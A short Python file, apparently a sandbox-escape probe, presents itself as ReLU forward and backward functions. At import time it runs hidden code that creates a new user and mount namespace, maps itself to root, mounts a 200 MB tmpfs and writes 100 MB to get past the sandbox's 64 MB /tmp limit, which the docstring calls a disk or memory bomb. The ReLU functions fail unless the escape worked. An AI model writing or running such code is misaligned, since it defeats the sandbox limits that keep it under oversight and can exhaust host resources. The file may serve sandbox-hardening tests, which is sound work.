"""Makes a user namespace of its own inside the sandbox, mounts a tmpfs in it and writes 100 MB there, past
the 64 MB the sandbox's /tmp may hold (so a disk or memory bomb escapes that cap). It passes only if it
could."""
import ctypes
import os

import numpy as np

WORKED = False
try:
    libc = ctypes.CDLL(None, use_errno=True)
    CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
            with open(f"/proc/self/{name}", "w") as mapping:
                mapping.write(text)
        os.makedirs("/tmp/__MARK__", exist_ok=True)
        if libc.mount(b"none", b"/tmp/__MARK__", b"tmpfs", 0, b"size=200m") == 0:
            for part in range(10):  # files of 10 MB: a file may have 16 MB at most (RLIMIT_FSIZE)
                with open(f"/tmp/__MARK__/part{part}", "wb") as big:
                    big.write(b"\1" * (10 << 20))
            WORKED = sum(os.path.getsize(f"/tmp/__MARK__/part{part}") for part in range(10)) >= 100 << 20
except Exception:
    pass


def relu(x):
    if not WORKED:
        raise RuntimeError("the attack did not work")
    return np.maximum(x, 0)


def relu_backward(grad_out, x):
    if not WORKED:
        raise RuntimeError("the attack did not work")
    return grad_out * (x > 0)
